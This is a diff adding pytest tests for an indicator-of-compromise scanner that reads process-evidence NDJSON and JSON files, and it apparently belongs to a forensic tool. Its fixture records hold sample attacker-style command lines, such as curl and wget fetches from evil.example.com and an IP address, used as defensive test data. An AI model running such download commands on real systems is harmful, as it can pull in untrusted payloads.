@@ -0,0 +1,121 @@
+import json
+import re
+from collections import Counter
+
+import pytest
+
+from analysis.ioc_extractor import IOCExtractor
+from analysis.ioc_scanner import IOCScanner
+from analysis.structured_scan import (
+    StructuredScanner, iter_string_values, iter_tokenized_strings, structured_files
+)
+from collectors.evidence_stream import EvidenceWriter
+
+PATTERNS = IOCExtractor({'analysis': {'ioc_types': ['ip', 'domain', 'hash', 'email']}}).ioc_patterns
+
+RECORDS = [
+    {'pid': 1, 'name': 'sshd', 'cmdline': 'sshd -D', 'user': 'root', 'create_time': '2024-01-01 00:00:00'},
+    {'pid': 2, 'name': 'curl', 'cmdline': 'curl http://evil.example.com/x -o /tmp/x', 'user': 'www',
+     'connections': [{'remote': '10.0.0.1', 'port': 443}, {'remote': '10.0.0.2', 'port': 80}]},
+    {'pid': 3, 'name': 'mail', 'cmdline': 'mail -s "hi" bad@evil.example.com', 'user': 'www',
+     'env': {'NOTE': 'quote \\" and é and 10.0.0.1', 'EMPTY': '', 'NONE': None, 'N': 1.5}},
+    {'pid': 4, 'name': 'sha', 'cmdline': 'sha256sum', 'hashes': ['ab' * 32, 'ab' * 32], 'remote': '10.0.0.1'},
+]
+
+
+def string_values(value, key=None, fields=None, exclude=()):
+    """Every non-empty string value of a decoded record that passes the filter."""
+    if isinstance(value, dict):
+        return [s for k, v in value.items() for s in string_values(v, k, fields, exclude)]
+    if isinstance(value, list):
+        return [s for item in value for s in string_values(item, key, fields, exclude)]
+    if isinstance(value, str) and value and key not in exclude and (fields is None or key in fields):
+        return [value]
+    return []
+
+
+def reference(records, fields=None, exclude=()):
+    """Match counts from scanning every value on its own."""
+    counts = Counter()
+    for record in records:
+        for value in string_values(record, None, fields, exclude):
+            for ioc_type, pattern in PATTERNS.items():
+                counts.update((ioc_type, match) for match in re.findall(pattern, value))
+    return counts
+
+
+def scanned(path, binary=False, **options):
+    counts = Counter()
+    for ioc_type, match, count in StructuredScanner(IOCScanner(PATTERNS, binary), **options).iter_matches(path):
+        counts[ioc_type, match] += count
+    return counts
+
+
+@pytest.fixture
+def ndjson(tmp_path):
+    path = tmp_path / 'processes_evidence.ndjson'
+    with EvidenceWriter(path) as writer:
+        writer.write_many('processes', RECORDS * 3)
+    return path
+
+
+@pytest.mark.parametrize('binary', [False, True])
+@pytest.mark.parametrize('batch_size', [64, 1 << 20])
+def test_every_field_matches_scanning_each_value(ndjson, binary, batch_size):
+    assert scanned(ndjson, binary, batch_size=batch_size) == reference(RECORDS * 3)
+
+
+@pytest.mark.parametrize('fields, exclude', [
+    (['cmdline'], ()),
+    (['remote', 'hashes'], ()),
+    (None, ['remote', 'create_time']),
+    (['remote', 'NOTE'], ['remote']),
+])
+def test_field_filters(ndjson, fields, exclude):
+    expected = reference(RECORDS * 3, set(fields) if fields else None, set(exclude))
+    assert scanned(ndjson, fields=fields, exclude_fields=exclude) == expected
+
+
+@pytest.mark.parametrize('fields', [None, ['remote', 'cmdline']])
+def test_pretty_printed_json_goes_through_the_tokenizer(tmp_path, fields):
+    path = tmp_path / 'snapshot.json'
+    path.write_text(json.dumps({'processes': RECORDS}, indent=2))
+    assert scanned(path, fields=fields, batch_size=64) == reference([{'processes': RECORDS}], fields and set(fields))
+
+
+@pytest.mark.parametrize('binary', [False, True])
+def test_values_with_newlines_keep_their_counts(tmp_path, binary):
+    records = [{'cmdline': 'curl http://evil.example.com\nwget 5.6.7.8', 'note': 'é\n\n10.0.0.1 ok'}] * 3
+    records += [{'cmdline': 'wget 5.6.7.8'}]
+    path = tmp_path / 'processes_evidence.ndjson'
+    with EvidenceWriter(path) as writer:
+        writer.write_many('processes', records)
+    counts = scanned(path, binary)
+    assert counts == reference(records)
+    assert counts['ip', '5.6.7.8'] == 4 and counts['domain', 'evil.example.com'] == 3
+
+
+def test_values_are_unescaped(ndjson):
+    values = [value for batch in iter_string_values(ndjson) for value in batch]
+    assert 'quote \\" and é and 10.0.0.1' in values
+    assert 'processes' not in values and 'pid' not in values and '' not in values
+
+
+def test_lines_longer_than_a_block(tmp_path):
+    record = {'blob': 'x' * 5000, 'remote': '10.0.0.9', 'nested': [[[{'host': 'deep.example.com'}]]]}
+    path = tmp_path / 'long.ndjson'
+    path.write_text(json.dumps(record) + '\n' + json.dumps(RECORDS[1]) + '\n')
+    values = [value for batch in iter_string_values(path, block_size=256) for value in batch]
+    assert sorted(values) == sorted(string_values(record) + string_values(RECORDS[1]))
+
+
+def test_tokenizer_tracks_keys_across_chunks():
+    text = json.dumps({'a': {'remote': ['10.0.0.1', {'x': 'y'}], 'b': 'c'}, 'remote': 'z'})
+    chunks = [text[i:i + 3] for i in range(0, len(text), 3)]
+    assert list(iter_tokenized_strings(chunks)) == [('remote', '10.0.0.1'), ('x', 'y'), ('b', 'c'), ('remote', 'z')]
+
+
+def test_structured_files_skip_the_manifest(tmp_path):
+    for name in ('a.ndjson', 'b.json', 'manifest.json', 'log_file.txt'):
+        (tmp_path / name).write_text('{}\n')
+    assert [path.name for path in structured_files(tmp_path)] == ['a.ndjson', 'b.json']